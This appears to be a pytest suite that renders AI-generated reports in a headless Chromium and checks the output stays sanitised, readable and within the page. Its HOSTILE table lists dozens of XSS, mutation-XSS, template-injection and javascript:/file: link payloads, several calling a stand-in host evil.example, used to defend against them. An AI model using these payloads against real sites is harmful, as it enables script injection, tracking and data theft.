# ruff: noqa: E501
"""Reports in a real browser: nothing that a model writes runs, loads or spills over the edge."""
import base64
import os
import subprocess
import sys
from pathlib import Path

import pytest
from PIL import Image

from llmi_kit.document import parse
from llmi_kit.picture import Failure, Origin, Picture
from llmi_kit.report import to_html, write_report
from screenshot import ARGS, CHROMIUM

sync_playwright = pytest.importorskip('playwright.sync_api').sync_playwright
pytestmark = pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK), reason=f'no {CHROMIUM}: apt-get install chromium fonts-noto-core fonts-noto-cjk')

HOSTILE = {
    'script': '<script>alert(1)</script>',
    'script-src': '<script src="https://evil.example/a.js"></script>',
    'script-split': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'script-case': '<ScRiPt/x>alert(1)</sCrIpT >',
    'handler': '<img src=x onerror=alert(1)>',
    'handler-slash': '<img/src=x/onerror=alert(1)//',
    'handler-quote': '"><img src=x onerror=alert(1)>',
    'handler-single': "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    'attribute': '" onload="alert(1)" style="background:url(https://evil.example/b)" x="',
    'svg': '<svg onload=alert(1)><script>alert(1)</script></svg>',
    'svg-animate': '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    'math': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    'noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    'template': '<template><script>alert(1)</script></template><details open ontoggle=alert(1)>',
    'textarea': '</textarea><script>alert(1)</script>',
    'title': '</title><script>alert(1)</script>',
    'style-end': '</style><script>alert(1)</script>',
    'code-end': '</code></pre></details><script>alert(1)</script>',
    'comment': '<!--><script>alert(1)</script>--> <!-- --!><img src=x onerror=alert(1)> -->',
    'cdata': '<![CDATA[><script>alert(1)</script>]]>',
    'instruction': '<?xml-stylesheet href="https://evil.example/a.css"?><?php alert(1) ?>',
    'iframe': '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    'object': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    'form': '<form action="https://evil.example/"><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>',
    'base': '<base href="https://evil.example/"><a href="x">x</a>',
    'refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    'stylesheet': '<link rel=stylesheet href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"; body{display:none}</style>',
    'style': '<p style="background:url(https://evil.example/c);position:fixed;inset:0">x</p>',
    'media': '<video src="https://evil.example/v" autoplay onerror=alert(1)></video><audio src=x onerror=alert(1)><source onerror=alert(1)>',
    'srcset': '<img srcset="https://evil.example/i 1x"><picture><source srcset="https://evil.example/j"></picture>',
    'literal-image': '<image src="https://evil.example/i" onerror=alert(1)> and <image>',
    'remote-image': '![seen](https://evil.example/track.png)',
    'remote-image-ref': '![seen][r]\n\n[r]: https://evil.example/track.png "t"',
    'data-image': '![x](data:image/svg+xml;base64,' + base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode() + ')',
    'link-js': '[click](javascript:alert(1)) <a href="javascript:alert(1)">x</a>',
    'link-js-tab': '[click](java\tscript:alert(1)) [a](<java\nscript:alert(1)>) [b](&#106;avascript&colon;alert(1)) [c](JAVASCRIPT&#58;alert(1))',
    'link-js-control': '[click](\x01javascript:alert(1)) [c](%6aavascript:alert(1)) <javascript:alert(1)>',
    'link-data': '[click](data:text/html,<script>alert(1)</script>) [v](vbscript:msgbox(1)) [f](file:///etc/passwd)',
    'link-quote': '[x](https://e.example/"onmouseover="alert(1)) [y](https://e.example/ "t\\" onclick=alert(1) x=\\"")',
    'link-user': '[bank](https://bank.example@evil.example/)',
    'autolink': '<https://e.example/"onmouseover=alert(1)>',
    'entity': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
    'fence': '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    'fence-class': '```"><script>alert(1)</script>\nx\n```',
    'table': '|<script>alert(1)</script>|b|\n|:-:|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|',
    'nested': '> - # <b onclick=alert(1)>x\n>   <script>alert(1)</script>',
    'unclosed': '<div><table><tr><td><b><i><a href="https://e.example"><p onclick=alert(1)',
    'clobber': '<form id=body><input name=firstChild></form><a id=figure-1 name=location href=https://e.example>x</a>',
    'nul': '<scr\x00ipt>alert(1)</scr\x00ipt><img \x00src=x onerror=alert(1)>',
    'utf7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    'surrogate': '<img src=x onerror=alert(1)> \ud83d',
    'jinja': '{{ 7*7 }} {% include "/etc/passwd" %} {{ self.__init__.__globals__ }}',
    'mutation': '<s><style><!--</style><img title="--><img src=x onerror=alert(1)>"></s>',
    'select': '<select><style></select><svg><style></style></svg><script>alert(1)</script>',
}

def tag(source, description, **params): return f"<imgen>{dict(source=source, description=description, params=params)!r}</imgen>"

def picture(text='', colour='teal'):
    return Picture.from_pil(Image.new('RGB', (60, 40), colour), Origin(tool='search', backend=text, title=text, author=text, licence=text, page=text, address=text))

def document_with(text):
    "The text wherever a model or the web has a say."
    answer = f"{text}\n\n# {text}\n\n{tag('search', text, query=text)}\n\n- {text} {tag('code', text, code=text)}\n\n{text}{tag('edit', text, img_index=0, prompt=text)}\n\n```\n{text}\n```\n\n**{text}"
    document = parse(answer, 1)
    results = [picture(text), Picture.from_pil(Image.new('RGBA', (30, 20)), Origin(tool='code', backend=text)), Failure(kind='code', message=text)]
    tags = [t.model_copy(update=dict(result=results[i % 3], description=t.description or text)) for i, t in enumerate(document.tags)]
    return document.model_copy(update=dict(inputs=[picture(text, 'gold')], tags=tags))

class Watch:
    "Everything that a page does beyond showing itself."
    def __init__(self, page, own=()):
        self.seen, self.own = [], own
        page.on('dialog', lambda d: (self.seen.append(f'dialog {d.message}'), d.dismiss()))
        page.on('request', lambda r: r.url.startswith('data:') or r.url in self.own or self.seen.append(f'request {r.url[:80]}'))
        page.on('console', lambda m: m.type in ('error', 'warning') and self.seen.append(f'console {m.text[:120]}'))
        page.on('pageerror', lambda e: self.seen.append(f'error {e}'))
        page.on('popup', lambda p: self.seen.append('popup'))
        page.on('download', lambda d: self.seen.append('download'))

DOM = r'''() => {
  const bad = [], tags = new Set(('html head meta title link style body main header section article footer div p span b bdi strong em s a br hr ul ol li ' +
    'blockquote pre code sub sup table thead tbody tr th td h1 h2 h3 h4 h5 h6 figure figcaption img details summary small dl dt dd').split(' '))
  for (const e of document.querySelectorAll('*')) {
    if (!tags.has(e.localName)) bad.push('element ' + e.localName)
    for (const a of e.attributes) if (/^on|^style$|^srcset$|^form|^srcdoc$|^target$/i.test(a.name)) bad.push('attribute ' + a.name)
    if (e.localName == 'a' && e.hasAttribute('href')) {
      if (!/^https?:$/.test(e.protocol) && !/^#(figure|input)-\d+$/.test(e.getAttribute('href'))) bad.push('href ' + e.href)
      if (e.username) bad.push('user name in ' + e.href)
      if (!/^#/.test(e.getAttribute('href')) && e.rel != 'noopener noreferrer nofollow') bad.push('rel ' + e.rel)
    }
    if (e.localName == 'img' && !/^data:image\/(png|jpeg|webp);base64,/.test(e.src)) bad.push('src ' + e.src.slice(0, 60))
    if (e.localName == 'img' && !e.hasAttribute('alt')) bad.push('no alt')
    if (e.localName == 'link' && e.getAttribute('href') != 'data:,') bad.push('link ' + e.href)
    if (e.localName == 'meta' && /refresh/i.test(e.httpEquiv)) bad.push('refresh')
    if (e.localName == 'style' && e.closest('article, figure, header, footer')) bad.push('style in the text')
  }
  return bad
}'''

@pytest.fixture(scope='module')
def browser():
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield browser
        browser.close()

@pytest.fixture
def look(browser, tmp_path):
    "Open HTML as a file in a browser window of its own, and say what it did."
    contexts = []
    def go(html, **options):
        contexts.append(browser.new_context(**options))
        return visit(contexts[-1].new_page(), html, tmp_path)
    yield go
    for context in contexts: context.close()

@pytest.fixture(scope='module')
def pages(browser):
    "Two windows for many reports: one obeys the page's policy, one ignores it."
    contexts = [browser.new_context(), browser.new_context(bypass_csp=True)]
    yield [c.new_page() for c in contexts]
    for context in contexts: context.close()

WATCHES = {}    # one for each window, since listeners add up

def visit(page, html, folder):
    path = folder / 'page.html'
    path.write_bytes(html.encode('utf8', 'replace'))
    if page not in WATCHES: WATCHES[page] = Watch(page)
    watch = WATCHES[page]
    watch.seen, watch.own = [], (path.as_uri(),)
    page.goto(path.as_uri())
    return page, watch

def poke(page):
    "What a reader's mouse would do: open what can be opened, point at things."
    page.evaluate('document.querySelectorAll("details").forEach(d => d.open = true)')
    page.evaluate('document.querySelectorAll("article *, header *").forEach(e => { for (const n of ["mouseover", "focus", "toggle"]) e.dispatchEvent(new Event(n)) })')

@pytest.mark.parametrize('name', HOSTILE)
def test_nothing_runs_or_loads(pages, tmp_path, name):
    "In a report, with its policy and without (the text must be clean even where the policy does not help), and in a notebook."
    text = HOSTILE[name]
    document = document_with(text)
    html = to_html(document, question=text, title=text if len(name) % 2 else None, model=text, date=text, lang=text)
    notebook = f'<!doctype html><meta charset="utf-8"><body>{document._repr_html_()}</body>'
    for page, source in zip([*pages, pages[1]], [html, html, notebook], strict=True):
        _, watch = visit(page, source, tmp_path)
        poke(page)
        assert page.evaluate(DOM) == []
        assert watch.seen == []
        assert page.locator('figure').count() == 4, 'a figure was swallowed'

@pytest.mark.parametrize('name, sign', [('handler', 'dialog'), ('script', 'dialog'), ('remote', 'request'), ('svg', 'dialog'), ('refresh', 'request')])
def test_the_watch_is_awake(look, name, sign):
    "The same attacks with nothing in their way are seen: these tests can fail."
    text = HOSTILE.get(name) or '<img src="https://evil.example/track.png">'
    page, watch = look(f'<!doctype html><body>{text}</body>')
    page.wait_for_timeout(100)
    assert any(s.startswith(sign) for s in watch.seen), watch.seen
    assert page.evaluate(DOM) if name != 'refresh' else True

def test_the_policy_alone_stops_them(look):
    "Should the sanitiser ever miss something, the page's own policy still holds."
    html = to_html(parse('Hello'))
    page, watch = look(html.replace('</article>', ''.join(HOSTILE[n] for n in ('script', 'handler', 'stylesheet', 'iframe', 'object', 'media')) + '</article>'))
    page.wait_for_timeout(100)
    assert not [s for s in watch.seen if s.startswith('dialog')]
    assert [s for s in watch.seen if 'Content Security Policy' in s]
    assert page.locator('body').is_visible()

# ---- looks -----------------------------------------------------------------------------------------------------------

def chart(width=900, height=400, mode='RGBA'): return Picture.from_pil(Image.new(mode, (width, height)), Origin(tool='code', backend='matplotlib'))

def rich():
    word = 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft' * 3
    table = '|' + '|'.join(f'column {i}' for i in range(14)) + '|\n' + '|--' * 14 + '|\n' + '|' + '|'.join('1,234,567' for _ in range(14)) + '|'
    answer = '\n\n'.join([f'# Wide {word}', f'A long word: {word}', table, '```\n' + 'x = 1; ' * 60 + '\n```', 'https://example.org/' + 'a/' * 200,
        tag('search', word, query='q'), *[tag('code', 'chart ' * 20, code='plt.plot(x) ' * 40)] * 4, tag('edit', 'e', img_index=0, prompt='p'),
        f'| {tag("search", "in a cell", query="x")} | text |\n|---|---|\n| a | b |', '- item ' + tag('search', 'in a list', query='x'),
        '> quote ' + tag('search', 'in a quote', query='x'), 'مرحبا بالعالم', '你好，世界', word])
    document = parse(answer, 1)
    results = [picture('Title'), chart(), chart(4000, 300), chart(100, 1500), chart(60, 60, 'RGB'), Failure(kind='timeout', message=word)]
    tags = [t.model_copy(update=dict(result=results[i] if i < len(results) else picture('T'))) for i, t in enumerate(document.tags)]
    return document.model_copy(update=dict(inputs=[picture('in')], tags=tags))

@pytest.mark.parametrize('scheme', ['light', 'dark'])
@pytest.mark.parametrize('width', [320, 390, 1440])
def test_nothing_spills_over(look, width, scheme):
    page, watch = look(to_html(rich(), question='What? ' * 80, model='m' * 90), viewport=dict(width=width, height=900), color_scheme=scheme)
    assert page.evaluate('document.documentElement.scrollWidth') <= width
    assert not page.evaluate('''() => [...document.querySelectorAll('article > *, figure, img, header *')].filter(e => {
        const r = e.getBoundingClientRect(); return !e.closest('.scroll, pre') && (r.right > innerWidth + .5 || r.left < -.5) }).map(e => e.outerHTML.slice(0, 80))''')
    assert page.evaluate('[...document.images].every(i => i.complete && i.naturalWidth > 0)')
    assert watch.seen == []

CONTRAST = r'''() => {
  const parse = c => c.match(/[\d.]+/g).map(Number), lum = ([r, g, b]) => [r, g, b].map(v => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
      .reduce((s, v, i) => s + v * [.2126, .7152, .0722][i], 0)
  const paper = e => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.length < 4 || c[3] > 0) return c } return [255, 255, 255] }
  const low = []
  for (const e of document.querySelectorAll('main *')) {
    if (![...e.childNodes].some(n => n.nodeType == 3 && n.data.trim()) || !e.checkVisibility()) continue
    const [a, b] = [lum(parse(getComputedStyle(e).color)), lum(paper(e))], ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05)
    if (ratio < 4.5) low.push(e.className + ' ' + e.localName + ' ' + ratio.toFixed(2))
  }
  return [...new Set(low)]
}'''

@pytest.mark.parametrize('scheme', ['light', 'dark'])
def test_text_can_be_read(look, scheme):
    "WCAG AA: at least 4.5 to 1 for every text on the page."
    page, _ = look(to_html(rich(), question='What?', model='m', date='today', seconds=3), color_scheme=scheme)
    page.evaluate('document.querySelectorAll("details").forEach(d => d.open = true)')
    dark = page.evaluate('getComputedStyle(document.body).backgroundColor')
    assert page.evaluate(CONTRAST) == []
    assert (sum(map(int, dark[4:-1].split(','))) < 200) == (scheme == 'dark')

@pytest.mark.parametrize('scheme', ['light', 'dark'])
def test_transparent_charts_stand_on_white(look, scheme):
    page, _ = look(to_html(rich()), color_scheme=scheme)
    plates = page.evaluate('[...document.querySelectorAll("#figure-2 .plate, #figure-3 .plate")].map(e => getComputedStyle(e).backgroundColor)')
    assert plates == ['rgb(255, 255, 255)'] * 2

def test_outline_and_names(look):
    "One h1, figures with captions, links to figures that exist, right-to-left text from the right."
    page, _ = look(to_html(rich(), question='What?'))
    assert page.locator('h1').count() == 1
    assert page.evaluate('[...document.querySelectorAll("figure")].every(f => f.querySelector("figcaption"))')
    assert page.evaluate('[...document.querySelectorAll("a[href^=\'#\']")].every(a => document.querySelector(a.getAttribute("href")))')
    assert page.evaluate('getComputedStyle([...document.querySelectorAll("article p")].find(p => p.textContent.startsWith("مر"))).direction') == 'rtl'
    assert page.get_by_role('figure').count() == page.locator('figure').count()

def test_prints(look, tmp_path):
    page, _ = look(to_html(rich(), question='What?'))
    pdf = page.pdf(format='A4')
    assert pdf[:5] == b'%PDF-' and len(pdf) > 10_000

def test_written_report_opens(browser, tmp_path):
    "The folder on disk, opened as a reader would."
    report = write_report(rich(), tmp_path / 'out with space & ünïcode', question='What?')
    page = browser.new_page()
    watch = Watch(page, own=(report.as_uri(),))
    page.goto(report.as_uri())
    assert page.locator('figure').count() == 10 and watch.seen == []
    page.close()

def test_screenshot_script(tmp_path):
    report = write_report(rich(), tmp_path)
    script = Path(__file__).with_name('screenshot.py')
    subprocess.run([sys.executable, script, report, tmp_path / 'a.png', '--width', '800', '--dark'], check=True)
    assert Image.open(tmp_path / 'a.png').width == 800
